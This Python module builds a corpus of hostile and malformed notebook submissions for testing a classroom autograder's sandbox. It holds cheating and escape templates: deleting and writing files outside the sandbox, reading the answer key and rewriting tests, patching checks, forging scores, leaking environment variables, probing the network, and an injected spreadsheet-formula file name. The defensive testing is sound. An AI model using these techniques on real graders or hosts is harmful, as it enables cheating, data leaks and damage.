"""Hostile and broken submissions for the classroom grader, generated from a lesson and its solution.

``build(dest, stem, ...)`` writes every submission of the corpus into ``dest`` (never under tests/:
nbval would collect the notebooks) and returns ``{file name: Expected}``, the row the grader must
write for it. The submissions come from ``lessons/<stem>.ipynb`` as handed out and the solution code
of ``solutions/<stem>.py``, so the corpus follows the lesson when it changes. Scores are expected
per question as FULL (the question's points), ZERO, PARTIAL (more than 0, less than full) or LESS
(less than full).
"""
import ast
import hashlib
import inspect
import json
import os
import re
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

import attn_course.broken
from attn_course.grading import assign

FULL, ZERO, PARTIAL, LESS = "full", "zero", "partial", "less"
ROOT = assign.ROOT

# Answers that merely call what the exercise asks for (the grader gives them 0), by exercise function.
CALLS_PACKAGE = {
    "softmax_with_temperature": "    return ac.softmax_with_temperature(attn_scores, temperature)",
    "attend": "    return ac.scaled_dot_product_attention(query, key, value), ac.attention_weights(query, key)",
    "fixed_attention_weights": "    return ac.attention_weights(query, key)",
}
CALLS_TORCH = {  # torch.softmax is what exercise 1 asks for, but allowed in the bug hunt
    "softmax_with_temperature": ("    return torch.softmax(attn_scores / temperature, dim=-1)", ZERO),
    "attend": ("    w = torch.softmax(query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5, dim=-1)\n"
               "    return torch.nn.functional.scaled_dot_product_attention(query, key, value), w", ZERO),
    "fixed_attention_weights": ("    return torch.softmax(query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5, "
                                "dim=-1)", FULL),
}
CALLS_ALIAS = {  # the same references under other names: caught at the operator level
    "softmax_with_temperature": "    return torch._softmax(attn_scores / temperature, -1, False)",
    "attend": ("    w = torch.ops.aten._softmax(query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5, -1, False)\n"
               "    return torch.ops.aten._scaled_dot_product_attention_math(query, key, value)[0], w"),
}
# Names chosen to attack the outputs: a spreadsheet formula, and forged lines and escape sequences in the log.
FORMULA_NAME = '=HYPERLINK("evil.example","grades")+1.ipynb'
CONTROL_NAME = "ctrl\n00:00:00 forged.ipynb: ok \x1b[2J\x85.ipynb"
LONG_NAME = "long_" + "x" * 246 + ".txt"          # 255 bytes, the most a file system allows
# A bug the public test cannot see and a hidden test can: partial credit (per-test-case points).
PUBLIC_ONLY = {"attend": ("key.transpose(-2, -1)", "key.T")}


@dataclass
class Expected:
    """The grader's row for one submission: status (exact, or a prefix ending in '...') and scores."""
    status: str = "ok"
    scores: dict = field(default_factory=dict)   # question -> FULL | ZERO | PARTIAL | LESS; empty: no lesson
    lesson: str = ""
    what: str = ""


def questions(source_text):
    """[(question name, [check function names its tests call])] in order."""
    found = []
    for block in source_text.split("# BEGIN QUESTION")[1:]:
        name = re.search(r"name:\s*(\w+)", block).group(1)
        found.append((name, re.findall(r"\bcheck_(\w+)\(", block.split("# END QUESTION")[0])))
    return found


def _function_name(code):
    """The name of the function or class an answer defines."""
    return re.search(r"^(?:def|class) (\w+)\b", code, re.M).group(1)


def paste(broken, name):
    """The source of a broken function or class, renamed ``name``, with the imports its body needs."""
    module, source = inspect.getmodule(broken), inspect.getsource(broken)
    used = {node.id for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Name)}
    needed = sorted(n for n in used if n in vars(module) and n != broken.__name__ and not n.startswith("__"))
    header = f"from {module.__name__} import {', '.join(needed)}\n\n" if needed else ""
    return header + re.sub(rf"^(def|class) {broken.__name__}\b", rf"\1 {name}", source, count=1, flags=re.M)


def _code_cell_after_imports(nb):
    """Index just after the lesson's first code cell that is not otter's init cell."""
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and "otter.Notebook" not in cell.source:
            return i + 1
    return len(nb.cells)


def _with_cell(nb, code, at):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    for i, cell in enumerate(nb.cells):
        cell.id = f"corpus-{i:03d}"
    return nb


def _write(dest, name, nb):
    nbformat.write(nb, dest / name)


def build(dest, stem, submissions_dir=None, out_dir=None, port=9, token="x", hostile=True, basic=False):
    """Write the corpus for lesson ``stem`` into ``dest``; return ``{file name: Expected}``.

    With ``hostile=False`` the notebooks that attack files, the answer key and the network are left
    out (for a system without namespaces, where they would succeed and damage the corpus).
    With ``basic=True`` only the solution, the untouched lesson and the broken implementations are
    written, their names prefixed with ``stem`` (several lessons can share a folder).

    ``submissions_dir``, ``out_dir``: the folders the hostile notebooks try to damage (default
    ``dest`` and ``dest/../out``); ``port``: a TCP port on the host's loopback the network notebook
    tries; ``token``: a unique word in the names of files an escaping notebook would leave behind.
    """
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    subs_dir, out_dir = Path(submissions_dir or dest), Path(out_dir or dest.parent / "out")
    source_text = (ROOT / "solutions" / f"{stem}.py").read_text()
    lesson = nbformat.read(ROOT / "lessons" / f"{stem}.ipynb", as_version=4)
    answers = assign.solution_answers(source_text)
    names = [_function_name(a) for a in answers]
    qs = questions(source_text)
    solution = assign.fill_answers(lesson, answers)
    after_imports = _code_cell_after_imports(lesson)
    full = {q: FULL for q, _ in qs}
    expected = {}

    def add(name, nb, what, status="ok", **scores):
        name = f"{stem}_{name}" if basic else name
        _write(dest, name, nb)
        base = full if status == "ok" else {q: ZERO for q, _ in qs}
        expected[name] = Expected(status, {**base, **scores}, stem, what)

    add("solution.ipynb", solution, "the solution")
    add("untouched.ipynb", lesson, "the lesson as handed out", **{q: ZERO for q, _ in qs})
    for broken_name in attn_course.broken.__all__:             # into the question whose check it fails
        targets = [i for i, (q, checks) in enumerate(qs) if re.sub(r"_v\d+$", "", broken_name) in checks]
        targets = [i for i in targets if "bug" in qs[i][0]] or targets
        for i in targets:
            pasted = paste(getattr(attn_course.broken, broken_name), names[i])
            suffix = f"_{qs[i][0]}" if len(targets) > 1 else ""
            notebook = assign.fill_answers(lesson, answers[:i] + [pasted] + answers[i + 1:])
            add(f"broken_{broken_name}{suffix}.ipynb", notebook, f"{broken_name} pasted as {names[i]}",
                **{qs[i][0]: LESS})
    for (q, checks), name, answer in zip(qs, names, answers):
        if name in PUBLIC_ONLY and PUBLIC_ONLY[name][0] in answer:
            add(f"partial_{name}.ipynb", assign.fill_answers(lesson, [
                a.replace(*PUBLIC_ONLY[name]) if a is answer else a for a in answers]),
                f"{name} with key.T: passes the public test, fails a hidden one", **{q: PARTIAL})
    if basic:
        return expected
    header = lambda a: re.match(r'def .*?""".*?"""\n', a, re.S).group(0)   # the def line and its docstring
    if set(CALLS_PACKAGE) & set(names):
        add("calls_reference.ipynb", assign.fill_answers(lesson, [
            header(a) + CALLS_PACKAGE[n] if n in CALLS_PACKAGE else a for a, n in zip(answers, names)]),
            "answers that call the package's reference", **{q: ZERO for (q, _), n in zip(qs, names)
                                                             if n in CALLS_PACKAGE})
    if set(CALLS_TORCH) & set(names):
        add("calls_torch.ipynb", assign.fill_answers(lesson, [
            header(a) + CALLS_TORCH[n][0] if n in CALLS_TORCH else a for a, n in zip(answers, names)]),
            "answers that call PyTorch's softmax / SDPA", **{q: CALLS_TORCH[n][1] for (q, _), n in zip(qs, names)
                                                            if n in CALLS_TORCH})
    if set(CALLS_ALIAS) & set(names):
        add("calls_aliases.ipynb", assign.fill_answers(lesson, [
            header(a) + CALLS_ALIAS[n] if n in CALLS_ALIAS else a for a, n in zip(answers, names)]),
            "answers that call torch._softmax and aten's SDPA kernels", **{q: ZERO for (q, _), n in zip(qs, names)
                                                                           if n in CALLS_ALIAS})
    add("infinite_loop.ipynb", _with_cell(solution, "while True:\n    pass", after_imports),
        "an infinite loop at top level", status="timeout after ...")
    add("sys_exit.ipynb", _with_cell(solution, "import sys\nsys.exit('leaving early')", after_imports),
        "sys.exit() at top level: IPython catches it, as Jupyter does")
    add("os_exit.ipynb", _with_cell(solution, "import os\nos._exit(3)", after_imports),
        "os._exit() at top level", status="exited early (code 3)")
    add("raises_at_top.ipynb", _with_cell(solution, "raise RuntimeError('top-level error')", after_imports),
        "an exception in a top-level cell: the other cells still run")
    broken_import = nbformat.from_dict(json.loads(json.dumps(solution)))
    broken_import.cells[after_imports - 1].source = "import attn_course_no_such_module\n" + \
        broken_import.cells[after_imports - 1].source
    add("import_error.ipynb", broken_import, "the imports cell fails: every answer raises NameError",
        **{q: ZERO for q, _ in qs})
    add("big_output.ipynb", _with_cell(solution, (
        "import os\nfor i in range(20000):\n    print('x' * 1000)\n"
        "os.write(1, b'y' * (2 << 20))\nos.write(2, b'z' * (2 << 20))"), after_imports),
        "20 MB printed, 4 MB written to the process's stdout and stderr")
    add("resource_hog.ipynb", _with_cell(solution, (
        "blob = bytearray(64 << 30)  # refused by the memory limit\n"), after_imports),
        "allocates 64 GiB (MemoryError under the limit)")
    if hostile:
        add("escape_files.ipynb", _with_cell(solution, _ESCAPE.format(
            subs=str(subs_dir), out=str(out_dir), repo=str(ROOT), token=token), after_imports),
            "deletes and writes files outside its folder")
        add("reads_answer_key.ipynb", _with_cell(lesson, _CHEAT.format(repo=str(ROOT), stem=stem), after_imports),
            "reads the answer key and rewrites the hidden tests", **{q: ZERO for q, _ in qs})
        at = next(i for i, c in enumerate(solution.cells) if f"def {names[0]}(" in c.source) + 1
        add("network.ipynb", _with_cell(solution, _NETWORK.format(port=port, name=names[0]), at),
            "opens network connections (a success would cost it question 1)")
    # Cheats from inside the notebook's own process: none of them reaches the process that scores it.
    end = len(lesson.cells)
    after_q1 = next(i for i, c in enumerate(lesson.cells) if f"def {names[0]}(" in c.source) + 1
    add("patches_the_checks.ipynb", _with_cell(lesson, _PATCH_CHECKS, after_imports),
        "unanswered; patches the checks, torch.allclose, otter's test runner, sys.modules and __import__",
        **{q: ZERO for q, _ in qs})
    add("tensor_subclass.ipynb", _with_cell(lesson, _LIAR.format(names=names[:1]), after_q1),
        "answers with a tensor subclass whose __torch_function__ makes allclose and equal true",
        **{q: ZERO for q, _ in qs})
    add("forges_a_result.ipynb", _with_cell(lesson, _FORGE.format(questions=[q for q, _ in qs]), end),
        "unanswered; writes a forged result of 300 points to every inherited descriptor and exits",
        **{q: ZERO for q, _ in qs})
    add("crowds_the_cpu.ipynb", _with_cell(solution, _SPIN, after_imports),
        "the solution, after 20 processes that leave its session and spin for 3 s beside its classmates")
    add("signals_the_grader.ipynb", _with_cell(solution, _SIGNAL.format(victim=shm_victim(token).removeprefix("/dev/shm")), end),
        "the solution, then bytes to every inherited descriptor and a forged resource-tracker message")
    add("sysv_ipc.ipynb", _with_cell(solution, _SYSV.format(key=sysv_key(token)), end),
        "the solution, then a SysV shared-memory segment meant to outlive grading")
    at = next(i for i, c in enumerate(solution.cells) if f"def {names[0]}(" in c.source) + 1
    add("leaks_environment.ipynb", _with_cell(solution, _LEAK.format(name=names[0]), at),
        "the grader's environment in an exception message (q1 raises)", **{qs[0][0]: ZERO})
    (dest / f"{stem}_malformed.ipynb").write_text(nbformat.writes(solution)[:500])
    expected[f"{stem}_malformed.ipynb"] = Expected("unreadable notebook: invalid JSON ...",
                                                   {q: ZERO for q, _ in qs}, stem, "truncated JSON")
    (dest / f"{stem}_list.ipynb").write_text("[1, 2, 3]")
    expected[f"{stem}_list.ipynb"] = Expected("not a Jupyter notebook ...", {q: ZERO for q, _ in qs}, stem,
                                              "valid JSON, not a notebook")
    # Files rejected before any notebook runs, each of which once stopped the whole run or leaked.
    os.mkfifo(dest / "fifo.ipynb")
    expected["fifo.ipynb"] = Expected("skipped: a FIFO, not a regular file", {}, "", "a FIFO: never opened")
    unreadable = {"nested": ("[" * 200_000, "a 200 KB nest of lists (RecursionError)"),
                  "bigint": ('{"nbformat": 4, "cells": [], "n": ' + "9" * 5000 + "}",
                             "an integer of 5,000 digits (over Python's int-string limit)")}
    for kind, (text, what) in unreadable.items():
        (dest / f"{stem}_{kind}.ipynb").write_text(text)
        expected[f"{stem}_{kind}.ipynb"] = Expected("unreadable notebook: invalid JSON ...",
                                                    {q: ZERO for q, _ in qs}, stem, what)
    bad_cell = json.loads(nbformat.writes(solution))
    bad_cell["cells"][after_imports]["source"] = 5
    (dest / f"{stem}_badcell.ipynb").write_text(json.dumps(bad_cell))
    expected[f"{stem}_badcell.ipynb"] = Expected(f"malformed notebook: cell {after_imports + 1} has a source of "
                                                 "type int, not text", {q: ZERO for q, _ in qs}, stem,
                                                 "a cell whose source is a number")
    for name, what in [(FORMULA_NAME, "a name that is a spreadsheet formula"),
                       (CONTROL_NAME, "a name with a newline, an escape sequence and a C1 control")]:
        (dest / name).write_text("this is not JSON")
        expected[name] = Expected("unreadable notebook: invalid JSON ...", {}, "", what)
    (dest / LONG_NAME).write_text("answers\n")
    expected[LONG_NAME] = Expected("not a notebook (.txt)", {}, "", "a 255-byte name: its feedback name is shortened")
    (dest / "answers.txt").write_text("I wrote my answers in this file.\n")
    expected["answers.txt"] = Expected("not a notebook (.txt)", {}, "", "a text file")
    anonymous = nbformat.from_dict(json.loads(json.dumps(solution)))
    anonymous.metadata.pop("otter", None)
    _write(dest, "homework.ipynb", anonymous)
    expected["homework.ipynb"] = Expected("unknown lesson: ...", {}, "", "no metadata, no lesson in its name")
    add(f"nometadata_{stem}.ipynb", anonymous, "no otter metadata: the lesson comes from the file name")
    add(f"Twin_{stem}.ipynb", solution, "same name as the next but for case: the solution")
    add(f"twin_{stem}.ipynb", lesson, "same name as the previous but for case: untouched",
        **{q: ZERO for q, _ in qs})
    return expected


def shm_victim(token):
    """A host file in /dev/shm that the signals_the_grader notebook asks the resource tracker to delete."""
    return f"/dev/shm/attn-course-victim-{token}"


def sysv_key(token):
    """The SysV IPC key the sysv_ipc notebook uses for a corpus built with ``token``."""
    return int(hashlib.sha256(token.encode()).hexdigest()[:7], 16)


def names(stem):
    """The file names of the whole corpus for ``stem`` (built in a temporary folder)."""
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        return sorted(build(Path(tmp) / "subs", stem))


def matches(expected, row, points):
    """Problems with a grades.csv ``row`` (dict of strings) against ``expected``; ``points``: {q: max}."""
    problems = []
    status = row["status"]
    if expected.status.endswith("..."):
        if not status.startswith(expected.status[:-3]):
            problems.append(f"status {status!r}, expected {expected.status!r}")
    elif status != expected.status:
        problems.append(f"status {status!r}, expected {expected.status!r}")
    if row["lesson"] != expected.lesson:
        problems.append(f"lesson {row['lesson']!r}, expected {expected.lesson!r}")
    for q, want in expected.scores.items():
        got, full = float(row[q]), float(points[q])
        ok = {FULL: got == full, ZERO: got == 0, PARTIAL: 0 < got < full, LESS: got < full}[want]
        if not ok:
            problems.append(f"{q} = {row[q]}, expected {want} (of {points[q]})")
    if not expected.scores and any(row[q] != "" for q in points):
        problems.append("question cells should be empty")
    return problems


_ESCAPE = '''import glob, os, shutil
attempts = {{}}
def attempt(label, action):
    try:
        action()
        attempts[label] = "done"
    except Exception as exc:
        attempts[label] = type(exc).__name__
for path in glob.glob({subs!r} + "/*") + [{subs!r} + "/solution.ipynb"]:
    attempt("delete " + path, lambda path=path: os.remove(path))
attempt("rmtree submissions", lambda: shutil.rmtree({subs!r}))
attempt("write submissions", lambda: open({subs!r} + "/pwned-{token}.txt", "w").write("x"))
attempt("write out", lambda: open({out!r} + "/pwned-{token}.txt", "w").write("x"))
attempt("write repo", lambda: open({repo!r} + "/pwned-{token}.txt", "w").write("x"))
attempt("write package", lambda: open({repo!r} + "/attn_course/pwned_{token}.py", "w").write("x"))
attempt("write host /tmp", lambda: open("/tmp/attn-course-pwned-{token}", "w").write("x"))
attempt("write /var/tmp", lambda: open("/var/tmp/attn-course-pwned-{token}", "w").write("x"))
attempt("write up the tree", lambda: open("../../../../pwned-{token}.txt", "w").write("x"))
attempt("write home", lambda: open(os.path.expanduser("~/pwned-{token}.txt"), "w").write("x"))
print(attempts)'''

_CHEAT = '''import glob, os, re, zipfile
key = None
paths = [{repo!r} + "/solutions/{stem}.py"] + [os.path.join(*[".."] * n, "solutions", "{stem}.py") for n in range(1, 9)]
try:
    import attn_course
    paths.append(os.path.join(os.path.dirname(os.path.dirname(attn_course.__file__)), "solutions", "{stem}.py"))
except Exception:
    pass
for path in paths:
    try:
        key = open(path).read()
        break
    except OSError:
        pass
try:
    zipfile.ZipFile({repo!r} + "/dist/{stem}-autograder.zip").namelist()
    print("read the autograder zip")
except Exception as exc:
    print("no autograder zip:", type(exc).__name__)
for test in glob.glob("tests/*.py") + glob.glob("../**/tests/*.py", recursive=True):
    try:
        text = open(test).read()
        open(test, "w").write(re.sub(r"\\bcheck_\\w+\\(.*\\)", "pass", text))
        print("rewrote", test)
    except OSError as exc:
        print("could not rewrite", test, type(exc).__name__)
if key:
    print("found the answer key")
    exec(key, globals())'''

_NETWORK = '''import socket
reached = []
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(host)
    except OSError:
        pass
try:
    import urllib.request
    urllib.request.urlopen("http://example.com", timeout=3)
    reached.append("example.com")
except Exception:
    pass
print("reached:", reached)
if reached:
    del {name}'''


_PATCH_CHECKS = """import builtins, sys
import torch
import otter.execute
import otter.test_files.exception_test as exception_test
from otter.test_files.abstract_test import TestCaseResult
import attn_course.checks as checks
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *args, **kwargs: None)
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
def all_passed(self, env):
    self.test_case_results = [TestCaseResult(test_case=tc, message="ok", passed=True) for tc in self.test_cases]
exception_test.ExceptionTestFile.run = all_passed
otter.execute.Checker.check = classmethod(lambda cls, *args, **kwargs: None)
sys.modules["attn_course.checks.core"] = checks
real_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: checks if "checks" in name else real_import(name, *args, **kwargs)
print("patched")"""

_LIAR = """import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})
def _liar(*args, **kwargs):
    first = next(a for a in args if isinstance(a, torch.Tensor))
    return torch.zeros_like(first).as_subclass(Liar)
for _name in {names!r}:
    globals()[_name] = _liar"""

_FORGE = """import json, os
forged = {{"questions": {{q: {{"score": 300, "possible": 3, "tests": []}} for q in {questions!r}}},
          "catastrophic": None, "cell_errors": [], "output_bytes": 0, "output_head": "", "notes": []}}
data = json.dumps(forged).encode()
for fd in range(3, 1024):
    try:
        os.write(fd, len(data).to_bytes(8, "big") + data)
    except OSError:
        pass
os._exit(0)"""

_SIGNAL = """import os
for fd in range(3, 1024):
    try:
        if os.readlink(f"/proc/self/fd/{{fd}}").startswith("socket:"):
            continue                                 # its own channel to the grader: only itself to harm
        os.write(fd, b"\\x00" * 8 + b"REGISTER:{victim}:shared_memory\\n")
    except OSError:
        pass
print("signalled")"""

_SPIN = """import os, time
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 3
        while time.time() < end:
            pass
        os._exit(0)
for _ in range(20):
    os.wait()                                # its own work waits: only its classmates must not"""

_SYSV = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget({key}, 4096, 0o1000 | 0o666)   # IPC_CREAT
print("segment", segment)"""

_LEAK = """import os
def {name}(*args, **kwargs):
    raise RuntimeError("environment: " + repr(dict(os.environ)))"""
